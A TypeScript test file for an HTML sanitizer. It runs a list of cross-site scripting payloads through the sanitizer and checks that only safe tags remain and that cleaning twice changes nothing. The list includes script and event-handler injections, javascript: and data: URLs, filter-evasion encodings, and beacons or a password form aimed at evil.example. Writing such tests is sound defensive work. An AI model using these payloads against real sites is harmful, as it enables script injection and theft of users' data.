import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { cleanHtml } from './clean-html.ts'

/** What people have tried elsewhere: none of it may leave anything that runs, loads, styles or sends. */
const payloads = [
  '<script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object><embed src=x>',
  '<form action="https://evil.example"><input name=password><button formaction="javascript:alert(1)">x</button></form>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java&#x09;script:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="//evil.example/x">x</a>',
  '<a href="\\\\evil.example/x">x</a>',
  '<a href="/\\evil.example/x">x</a>',
  '<a href="/&#9;/evil.example/x">x</a>',
  '<p style="background:url(https://evil.example/beacon)">x</p>',
  '<p onclick="alert(1)" onmouseover=alert(1)>x</p>',
  '<style>@import "https://evil.example/x.css"</style>',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea><script>alert(1)</script></textarea>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror=alert(1)></video>',
  '<p id=cookie name=forms>x</p>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<table background="javascript:alert(1)"><tr><td background="x">x</td></tr></table>',
  '<isindex type=image src=1 onerror=alert(1)>',
  '<p><a href="https://evil.example" target=_self rel=opener onfocus=alert(1) autofocus>x</a></p>',
]

/** What stands in the markup itself; words that look like markup are text by then, with their brackets escaped. */
const tagsOf = (html: string) => [...html.matchAll(/<[^>]*>/g)].map(([tag]) => tag)
const permitted =
  /^<(?:\/?(?:p|h3|h4|ul|ol|li|blockquote|strong|b|em|i|u|s|small|sub|sup|table|thead|tbody|tr)|\/a|\/t[hd]|(?:br|hr) \/|t[hd](?: (?:colspan|rowspan)="[^"<>]*")*|a(?: href="(?:https?:\/\/|mailto:|[/#?](?![/\\]))[^"<>\\]*")? target="_blank" rel="noopener noreferrer nofollow")>$/i

describe('cleaned HTML', () => {
  test.each(payloads)('of %s is harmless [trust 52]', (payload) => {
    const clean = cleanHtml(payload)
    for (const tag of tagsOf(clean)) expect(tag).toMatch(permitted)
    expect(clean).not.toMatch(/<[^>]*(?:javascript|data|vbscript):/i)
    expect(cleanHtml(clean)).toBe(clean)
  })

  test('keeps what a notice is made of [trust 52]', () => {
    const notice =
      '<h3>ជូនដំណឹង</h3><p>Open <strong>daily</strong>, 8&nbsp;a.m. &amp; later<br />see <a href="/promotions">promotions</a></p><ul><li>一</li></ul><table><tbody><tr><td colspan="2">x</td></tr></tbody></table>'
    const clean = cleanHtml(notice)
    for (const part of ['<h3>ជូនដំណឹង</h3>', '<strong>daily</strong>', '&amp; later<br />', '<li>一</li>', '<td colspan="2">x</td>'])
      expect(clean).toContain(part)
    expect(clean).toContain('<a href="/promotions" target="_blank" rel="noopener noreferrer nofollow">promotions</a>')
    expect(cleanHtml('<a href="mailto:help@example.com">x</a>')).toContain('href="mailto:help@example.com"')
  })

  test('is not changed by being cleaned again, whatever it was [trust 52]', () => {
    const pieces = fc.oneof(
      fc.constantFrom(...payloads),
      fc.constantFrom(
        '<p>',
        '</p>',
        '<b',
        '>',
        '"',
        "'",
        '&',
        '&lt;',
        '&#x3c;',
        '<!--',
        '-->',
        '<a href=',
        'javascript:',
        '</',
        '<td rowspan=',
      ),
      fc.string({ maxLength: 12 }),
    )
    fc.assert(
      fc.property(fc.array(pieces, { maxLength: 8 }), (parts) => {
        const clean = cleanHtml(parts.join(''))
        for (const tag of tagsOf(clean)) expect(tag).toMatch(permitted)
        expect(cleanHtml(clean)).toBe(clean)
      }),
      { numRuns: 2000 },
    )
  })
})
